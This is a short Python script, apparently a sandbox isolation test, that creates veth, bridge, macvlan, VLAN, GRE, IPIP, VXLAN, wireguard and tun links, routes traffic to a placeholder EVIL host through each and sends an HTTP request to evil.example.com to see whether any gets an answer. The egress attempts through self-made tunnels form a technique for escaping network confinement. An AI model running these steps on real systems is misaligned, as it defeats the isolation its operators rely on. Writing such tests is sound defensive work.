# SPDX-License-Identifier: Apache-2.0
# Trick: links of one's own: veth, tun, bridge, VLAN, macvlan and ipvlan on the gate's,
#	dummy, tunnels
# Gain: frames with other senders, other routes, the host's end by a bridge
# Fresh: yes
# Power: network
# Control: none, it would change the test's own world
from trick import *

made = []
for what in ("link add v1 type veth peer name v2", "link add b1 type bridge", "link add link eth0 name m1 type macvlan mode bridge",
             "link add link eth0 name i1 type ipvlan mode l2", "link add link eth0 name eth0.5 type vlan id 5", "link add d1 type dummy",
             f"link add g1 type gre remote {EVIL} local {GUEST}", f"link add t1 type ipip remote {EVIL} local {GUEST}",
             f"link add x1 type vxlan id 5 remote {EVIL} dstport 53 dev eth0", "link add wg1 type wireguard", "tuntap add tun1 mode tun"):
    made.append(run("ip", *what.split()))
outs = []
for name in ("v1", "b1", "m1", "i1", "eth0.5", "d1", "g1", "t1", "x1", "wg1", "tun1"):
    if not run("ip", "link", "set", name, "up"):
        continue
    run("ip", "addr", "add", "11.0.0.9/24", "dev", name)
    run("ip", "route", "replace", EVIL + "/32", "dev", name, "src", "11.0.0.9")
    s = tcp(EVIL, 80, 0.15)
    if s and say(s, request("evil.example.com")):
        outs.append((name, read(s, 0.1)))
    run("ip", "link", "del", name)
any_answer(f"{sum(made)} links made", outs)
